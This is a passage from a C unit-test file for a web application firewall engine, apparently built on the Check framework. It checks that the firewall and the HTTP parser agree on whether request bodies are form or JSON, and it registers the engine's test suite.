	struct seen *s = ctx;

	s->form |= v->loc == PX_WAF_L_FORM;
	s->json |= v->loc == PX_WAF_L_JSON;
	return 0;
}

START_TEST(test_body_type_agrees_with_http)
{
	static const struct px_waf_vocab vocab = { px_waf_detector_index, px_waf_flag_bit };
	struct px_buf text = PX_BUF_INIT, err = PX_BUF_INIT, scratch[3];
	struct px_waf_ruleset *rs = NULL;
	const char *ct = agree_cases[_i].ctype;
	const char *body = agree_cases[_i].json ? "{\"a\":\"b\"}" : "a=b";
	struct seen seen = { 0, 0 };
	struct px_request r;
	uint64_t flags = 0;
	char chunk[4096];
	size_t n, i;
	FILE *f = fopen(PX_SRCDIR "/etc/waf.rules", "r");

	ck_assert_ptr_nonnull(f);
	while ((n = fread(chunk, 1, sizeof(chunk), f)) > 0)
		px_buf_append(&text, chunk, n);
	fclose(f);
	ck_assert_int_eq(px_waf_ruleset_parse(text.data, text.len, "waf.rules", &vocab, &rs,
					      &err), 0);
	for (i = 0; i < 3; i++)
		px_buf_init(&scratch[i]);
	wf_build(&r, "POST", "/api/v1/x", NULL, NULL, ct, body, strlen(body));
	(void)px_waf_input_walk(rs, px_waf_ruleset_profile(rs, "default"), &r, note_loc,
				&seen, &flags, scratch);
	ck_assert_int_eq(px_parse_body(&r), PX_OK);
	ck_assert_msg((r.form.n > 0) == agree_cases[_i].form &&
		      (r.json != NULL) == agree_cases[_i].json,
		      "line %d: HTTP read %s as form %d json %d", agree_cases[_i].line, ct,
		      r.form.n > 0, r.json != NULL);
	ck_assert_msg(seen.form == agree_cases[_i].form,
		      "line %d: WAF walked %s as form: %d", agree_cases[_i].line, ct, seen.form);
	/* JSON under any type is inspected as JSON too; only form is by type */
	ck_assert_msg(!agree_cases[_i].json || seen.json, "line %d: WAF missed JSON",
		      agree_cases[_i].line);
	ck_assert_msg(!(flags & PX_WAF_R(PX_WAF_R_CT_FORBIDDEN_I)) ==
		      (agree_cases[_i].form || agree_cases[_i].json),
		      "line %d: content_type_forbidden for %s", agree_cases[_i].line, ct);
	for (i = 0; i < 3; i++)
		px_buf_free(&scratch[i]);
	px_request_clear(&r);
	px_waf_ruleset_free(rs);
	px_buf_free(&text);
	px_buf_free(&err);
}
END_TEST

static Suite *suite(void)
{
	Suite *s = suite_create("waf");
	TCase *tc = tcase_create("engine");

	tcase_add_unchecked_fixture(tc, wf_load, wf_unload);
	tcase_set_timeout(tc, 60);
	tcase_add_loop_test(tc, test_cases, 0, (int)(sizeof(cases) / sizeof(cases[0])));
	tcase_add_test(tc, test_deep_json);
	tcase_add_test(tc, test_many_params);
	tcase_add_test(tc, test_huge_header);
	tcase_add_test(tc, test_bad_bodies);
	tcase_add_loop_test(tc, test_norm, 0, (int)(sizeof(ncases) / sizeof(ncases[0])));
	tcase_add_test(tc, test_sql_view);
	tcase_add_loop_test(tc, test_ssrf, 0, (int)(sizeof(scases) / sizeof(scases[0])));
	tcase_add_test(tc, test_profiles_and_reload_errors);
	tcase_add_loop_test(tc, test_generalised, 0, (int)(sizeof(gcases) / sizeof(gcases[0])));
	tcase_add_loop_test(tc, test_shell_view, 0, (int)(sizeof(shcases) / sizeof(shcases[0])));
	tcase_add_loop_test(tc, test_body_type_agrees_with_http, 0,
			    (int)(sizeof(agree_cases) / sizeof(agree_cases[0])));
	suite_add_tcase(s, tc);
	return s;
}

int main(void)
{
	return px_check_run(suite(), CK_FORK_GETENV);
}
